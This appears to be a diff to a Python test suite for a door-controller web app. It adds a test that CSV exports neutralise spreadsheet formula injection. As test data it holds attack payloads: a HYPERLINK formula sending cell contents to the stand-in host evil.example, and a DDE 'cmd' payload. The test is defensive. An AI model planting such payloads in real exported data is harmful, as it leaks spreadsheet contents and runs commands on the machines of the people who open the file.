@@ -200,12 +200,15 @@ def test_stalled_and_flooding_clients_do_not_starve_the_page(live, abuse, monkey
     assert closed == len(stalled), 'stalled connections are dropped after the handler timeout'
     # live pages: at most PAGES_MAX at once; one more is told so, the open ones keep their pushes
     streams = []
+    t0 = time.monotonic()
     try:
         for _ in range(server.PAGES_MAX):
             s = socket.create_connection(('127.0.0.1', web.port), timeout=5)
             s.sendall(b'GET /api/events HTTP/1.1\r\nHost: x\r\nCookie: edgectl_session=%s\r\n\r\n' % page.cookie.encode())
             streams.append(s)
-        assert _wait(lambda: len(web.hub.pages) == server.PAGES_MAX, 10)
+        assert _wait(lambda: len(web.hub.pages) == server.PAGES_MAX, 5)
+        opened = time.monotonic() - t0
+        assert opened < 2.0, 'a wall of pages (re)connecting at once took %.1f s' % opened
         status = page.get('/api/events')[0]
         abuse.input(refused=status == 503)
         assert status == 503
@@ -214,3 +217,26 @@ def test_stalled_and_flooding_clients_do_not_starve_the_page(live, abuse, monkey
     finally:
         for s in streams:
             s.close()
+
+
+def test_a_formula_from_a_board_is_exported_as_text_not_run(live, broker, abuse):
+    """A board may name its controller as it likes; the front desk opens the CSV in a
+    spreadsheet: a name that is a formula must arrive as text."""
+    import csv
+    import io as _io
+    web, page, io = live
+    evil = mqttc.connect(broker.host, broker.port, 'evil')        # what a stolen board's login can publish
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3']
+    try:
+        for i, f in enumerate(formulas):
+            ev = {'seq': 900 + i, 'ts': 1, 'log': 77, 'type': 'door.opened', 'sev': 'info', 'ctrl': f}
+            evil.publish(T.evt('web', 'lobby-1', 'front'), json.dumps(ev), qos=1).wait_for_publish(5)
+    finally:
+        evil.loop_stop()
+        evil.disconnect()
+    assert _wait(lambda: len([r for r in page.get('/api/journal?device=lobby-1')[2] if r.get('log') == 77]) == 4, 5)
+    body = page.get('/api/journal?format=csv&device=lobby-1')[2].decode()
+    ctrls = [row[4] for row in csv.reader(_io.StringIO(body))][1:]
+    for f in formulas:
+        abuse.input(refused=("'" + f) in ctrls and f not in ctrls)
+        assert ("'" + f) in ctrls and f not in ctrls, ctrls
